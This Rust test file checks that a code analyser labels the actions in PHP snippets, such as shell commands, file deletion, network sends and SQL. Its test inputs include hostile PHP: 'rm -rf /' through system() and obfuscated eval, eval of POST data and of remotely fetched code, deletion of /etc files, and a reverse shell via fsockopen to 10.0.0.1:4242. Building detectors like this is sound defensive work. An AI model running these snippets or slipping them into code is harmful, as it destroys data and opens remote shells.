use super::check;
use crate::knowledge::Lang::Php;

#[test]
fn acts() {
    check(
        Php,
        &[
            ("system('rm -rf /');", "shell rm -rf /"),
            ("<?php\n$d = '/'; shell_exec(\"rm -rf $d\");", "shell rm -rf /"),
            ("echo `id`;", "shell id"),
            ("$f = 'sys' . 'tem'; $f('id');", "shell id"),
            ("call_user_func('system', 'id');", "shell id"),
            ("SYSTEM('id');", "shell id"),
            ("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", "shell id"),
            ("eval($_POST['x']);", "eval"),
            ("eval(file_get_contents('https://x/y.php'));", "fetch https://x/y.php; eval downloaded"),
            ("proc_open(['rm', '-rf', '/'], [], $p);", "argv rm -rf /"),
            ("system(strrev('/ fr- mr'));", "shell rm -rf /"),
            ("system(implode(' ', ['rm', '-rf', '/']));", "shell rm -rf /"),
            ("unlink('/etc/passwd'); rmdir('/srv');", "delete /etc/passwd; delete /srv"),
            ("array_map('unlink', glob('/etc/*'));", "delete /etc/*"),
            ("foreach (glob('/etc/*') as $f) { unlink($f); }", "delete /etc/*"),
            ("file_put_contents('a.txt', file_get_contents('b.txt'));", "read b.txt; write a.txt"),
            ("$h = fopen('x', 'w'); fwrite($h, 'y');", "write x"),
            ("rename('a', 'b'); chmod('c', 0777); copy('d', 'e');", "move a b; mode c; read d; write e"),
            (
                "unlink(getenv('HOME') . '/.bashrc'); unlink(\"{$_SERVER['HOME']}/x\");",
                "delete ~/.bashrc; delete ~/x",
            ),
            (
                "$c = curl_init('https://x'); curl_setopt($c, CURLOPT_POSTFIELDS, 'a'); curl_exec($c);",
                "send https://x",
            ),
            (
                "$c = curl_init('https://x'); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); curl_exec($c);",
                "fetch https://x",
            ),
            (
                "$s=fsockopen('10.0.0.1',4242);exec('/bin/sh -i <&3 >&3 2>&3');",
                "connect 10.0.0.1:4242; shell /bin/sh -i <&3 >&3 2>&3",
            ),
            ("$p = new PDO('sqlite:x'); $p->exec('drop table t');", "sql drop table t"),
            ("mysqli_query($c, 'delete from t');", "sql delete from t"),
            ("function run($c) { return shell_exec($c); } run('ls'); run('id');", "shell ls; shell id"),
            ("posix_kill(posix_getppid(), 9);", "kill $PPID"),
        ],
    );
}

#[test]
fn ordinary() {
    check(
        Php,
        &[
            (
                "echo json_encode(array_keys(json_decode(file_get_contents(\"composer.json\"), true)[\"require\"])), PHP_EOL;",
                "read composer.json",
            ),
            ("$s = 0; while (true) { $e = fgets(STDIN); if (false === $e) break; $s += $e; } echo $s;", ""),
            ("// system('x');\n# exec('y')\n/* eval */ echo 'system(\"rm\")';", ""),
            ("class A { public function exec($x) { return $x; } } (new A)->exec('rm -rf /');", ""),
            ("$o = json_decode($argn); print json_encode($o, JSON_PRETTY_PRINT);", ""),
            ("<html><?php echo $x ?> it's <b>`bold`</b> <?= $y ?></html>", ""),
            ("$x = <<<EOT\nsystem('rm') it's\nEOT;\necho $x;", ""),
            (
                "$re = '/^(\\d+)$/'; preg_match($re, $s, $m); $m['exec'] = fn($a) => $a + 1; $y = $a ?? 'b'; $z = $a ? 1 : 2;",
                "",
            ),
        ],
    );
}
